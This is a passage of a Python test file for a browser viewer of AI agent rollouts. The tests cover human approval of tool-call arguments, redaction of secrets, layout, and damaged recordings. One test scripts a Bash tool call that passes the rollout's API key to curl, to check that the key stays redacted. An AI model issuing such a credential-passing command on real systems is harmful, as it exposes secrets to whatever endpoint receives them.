            page = tab.page
            page.goto(endpoint.view_url)
            press(page, "e")
            for text, reason in wrong.items():
                page.locator("textarea").fill(text)
                page.get_by_role("button", name="Approve with").click()
                expect(page.get_by_role("alert")).to_contain_text(reason)
            page.locator("textarea").fill('{"a":12345678901234567890}')
            page.get_by_role("button", name="Approve with").click()
            expect(page.locator("section.waiting")).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)
        decided = [each.arguments for turn in rollout.trace for each in turn.decisions]
        assert decided == ['{"a":12345678901234567890}']


async def test_redacted_arguments_are_named_so_and_not_sent_in_place_of_the_key() -> None:
    async with served() as (endpoint, client, nursery):

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            press(page, "e")
            expect(waiting.locator("textarea")).to_have_value(re.compile(re.escape(MARK)))
            expect(waiting.locator(".bad")).to_contain_text("These arguments are redacted")
            waiting.get_by_role("button", name="Approve with").click()
            expect(waiting.get_by_role("alert")).to_contain_text(f"still contains {MARK}")
            waiting.locator("textarea").fill('{"command": "curl"}')
            waiting.get_by_role("button", name="Approve with").click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(lambda exchange: approval(exchange)) as rollout:
            call = ToolCall.of("Bash", command=f"curl -u {rollout.api_key}")
            approval = approve(ScriptedModel([call]), {"Bash": ask_page})
            nursery.start_soon(Agent(client, rollout).call, "Fetch it.")
            await browse(look)
        assert [each.arguments for turn in rollout.trace for each in turn.decisions] == [
            '{"command": "curl"}'
        ]


async def test_a_narrow_page_shows_rollouts_then_turns_then_a_turn() -> None:
    async with served() as (endpoint, client, _):
        async with endpoint.open_rollout(ScriptedModel(["hello"])) as rollout:
            await Agent(client, rollout).call("Hi.")

        def look(tab: Tab) -> None:
            page = tab.page
            page.set_viewport_size({"width": 400, "height": 800})
            page.goto(endpoint.view_url)
            page.locator(".runs [role=option]").click()
            expect(page.locator(".runs")).to_be_hidden()
            page.locator(".turns [role=option]").click()
            expect(page.locator(".detail .message.assistant")).to_contain_text("hello")
            assert page.evaluate("document.documentElement.scrollWidth") <= 400
            page.get_by_role("button", name="Back to the turns").click()
            page.get_by_role("button", name="Back to the rollouts").click()
            expect(page.locator(".runs")).to_be_visible()

        await browse(look, color_scheme="dark")


@pytest.mark.parametrize(
    ("document", "shown"),
    [
        (b'{"version": 9, "snapshot": {"version": 9}, "runs": {}}', "version 9"),
        (b'{"version": 1, "snap', "damaged"),
    ],
)
async def test_a_file_of_another_version_or_a_damaged_one_is_named(
    tmp_path: Path, document: bytes, shown: str
) -> None:
    path = tmp_path / "run.html"
    path.write_bytes(html_of(document, "a run"))

    def look(tab: Tab) -> None:
        tab.page.goto(path.as_uri())
        expect(tab.page.get_by_role("alert")).to_contain_text(shown)

    await browse(look)


async def test_a_browser_that_cannot_unpack_the_file_is_named_as_the_cause(tmp_path: Path) -> None:
    path = tmp_path / "run.html"
    path.write_bytes(html_of(Source("a run").document(), "a run"))

    def look(tab: Tab) -> None:
        tab.context.add_init_script("delete window.DecompressionStream")
        tab.page.goto(path.as_uri())
        expect(tab.page.get_by_role("alert")).to_contain_text("This browser")

    await browse(look)


async def test_a_cut_recording_is_shown_with_its_problem_to_a_second_tab_without_the_key_too(
    tmp_path: Path,
) -> None:
    with trio.fail_after(200):
        path = tmp_path / "traces.jsonl"
        async with (
            httpx2.AsyncClient() as client,
            triocept.serve_endpoint(recorder=JSONLRecorder(path)) as one,
        ):
            async with one.open_rollout(ScriptedModel(["hello"])) as rollout:
                await Agent(client, rollout).call("Hi.")
        path.write_bytes(path.read_bytes()[:-50])  # a cut seal
        source = View([path], "", 0).read()

        def look(tab: Tab, url: str) -> None:
            tab.page.goto(f"{url}&run=unknown")
            expect(tab.page.locator(".turns")).to_contain_text("This rollout is not here")
            tab.page.locator(".runs [role=option]").click()
            expect(tab.page.locator(".status")).to_have_text("recorded")
            expect(tab.page.locator(".notes")).to_contain_text("not sealed: some of its turns may be missing")
            other = tab.open()
            other.goto(tab.page.url)
            expect(other.locator(".detail .message.assistant")).to_contain_text("hello")
            assert tab.problems == []  # not even a request that the server refuses

        async with serve_source(source, host="127.0.0.1", port=0) as url:
            await browse(partial(look, url=url))


async def test_tasks_of_two_stores_stand_side_by_side_and_are_filtered(tmp_path: Path) -> None:
    source = await two_stores(tmp_path)

    def look(tab: Tab, url: str) -> None:
        page = tab.page
        page.goto(url)
        panel = page.get_by_role("region", name="Tasks")
        names = panel.locator("tbody th")
        expect(names).to_have_text([re.compile("easy.*flipped"), re.compile("hard.*flipped"), "silent"])
        expect(panel.locator("thead th")).to_have_count(3)
        names.first.evaluate("(name) => (name.textContent = 'a-long-id-'.repeat(30))")
        widths = panel.locator("thead th").evaluate_all("(cells) => cells.map((cell) => cell.offsetWidth)")
        assert max(widths) - min(widths) <= 2, widths
        page.reload()
        for wanted, shown in {
            "flipped": ["easy", "hard"],
            "unscored": ["silent"],
            "below": ["easy", "hard"],
            "all": ["easy", "hard", "silent"],
        }.items():
            panel.get_by_label("Show").select_option(wanted)
            expect(names).to_have_text([re.compile(f"^{name}") for name in shown])
        panel.locator("tbody tr").first.locator("td").nth(1).get_by_role("button").click()
        expect(page.locator(".turns [role=option]")).to_contain_text("bye")
        expect(panel.get_by_role("button", pressed=True)).to_have_text("✕ exact 0")
        turns(page, 0)
        expect(panel).to_have_count(0)
        page.get_by_role("button", name="Tasks").click()
        expect(panel).to_be_visible()

    with trio.fail_after(200):
        async with serve_source(source, host="127.0.0.1", port=0) as url:
            await browse(partial(look, url=url))
